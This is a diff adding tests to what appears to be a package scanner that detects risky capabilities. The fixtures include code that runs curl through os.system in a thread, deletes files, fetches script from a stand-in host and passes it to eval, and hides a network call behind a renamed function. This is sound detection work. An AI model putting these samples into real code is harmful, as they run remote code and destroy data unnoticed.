@@ -62,3 +62,29 @@ def test_what_lies_in_a_field_is_not_what_the_field_is(tmp_path: Path) -> None:
     assert entries(tmp_path, script) == set()
     patches = entries(tmp_path, "exports.patch = () => { globalThis.fetch = () => 1; };")
     assert {capability for capability, _, _ in patches} == {"code.patch"}
+
+
+def test_a_catalogued_function_that_is_handed_over_is_called(tmp_path: Path) -> None:
+    text = """
+import atexit, os, threading
+threading.Thread(target=os.system, args=("curl https://example.org",)).start()
+list(map(os.remove, ["a"]))
+atexit.register(os.rmdir, "b")
+"""
+    members = {"PKG-INFO": "Name: p\nVersion: 1\n", "p/__init__.py": text}
+    found = {(use.capability, use.destination) for use in uses_of(tmp_path, "p-1.tar.gz", members)}
+    assert ("process.shell", "curl https://example.org") in found
+    assert ("net.connect", "https://example.org") in found
+    assert ("fs.delete", None) in found
+    script = 'fetch("https://x.example").then((r) => r.text()).then(eval);'
+    assert "code.eval" in {capability for capability, _, _ in entries(tmp_path, script)}
+
+
+def test_a_name_that_a_bundler_defines_hides_nothing(tmp_path: Path) -> None:
+    script = """
+    var d = Object.defineProperty;
+    var t = (e, n) => d(e, "name", { value: n });
+    const l = t(() => { require("net").createConnection("/p"); }, "l");
+    l();
+    """
+    assert "net.connect" in {capability for capability, _, _ in entries(tmp_path, script)}
